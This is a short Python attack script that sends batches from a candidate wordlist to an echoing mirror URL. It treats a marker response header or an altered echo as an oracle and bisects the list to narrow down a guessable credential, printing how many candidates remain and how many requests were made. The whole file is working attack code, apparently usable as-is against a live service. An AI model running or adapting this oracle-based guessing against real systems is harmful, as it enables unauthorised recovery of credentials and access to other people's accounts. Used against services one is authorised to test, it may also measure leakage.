"""Tries to learn a guessable credential from what an echoing upstream shows of a million candidates.

argv: URL of the mirror, file of candidates. Prints how many candidates are left when nothing more can be learned.
"""
import sys, requests

url, left = sys.argv[1], open(sys.argv[2]).read().split()
session = requests.Session()
asked = told = 0


def holds_it(batch):
    """Whether the answer gives away that the credential is among these; None where it tells nothing."""
    global asked
    text = "\n".join(batch)
    answer = session.post(url, data=text, headers={"content-type": "text/plain"})
    asked += 1
    if answer.headers.get("x-marque") == "MQ-4109":
        return True
    if answer.status_code == 200:
        return answer.text != text
    return None


step = 40_000
while len(left) > 1:
    half = left[: min(step, (len(left) + 1) // 2)]
    found = holds_it(half)
    if found is None:
        break
    if not found:
        left = left[len(half):]
        told += 1
        continue
    # The first hit says that it is here. From now on the answer to anything must be the same.
    if holds_it(["nothing-of-the-kind"]) is not False:
        left = half
        break
    left = half
print("left", len(left), "asked", asked)
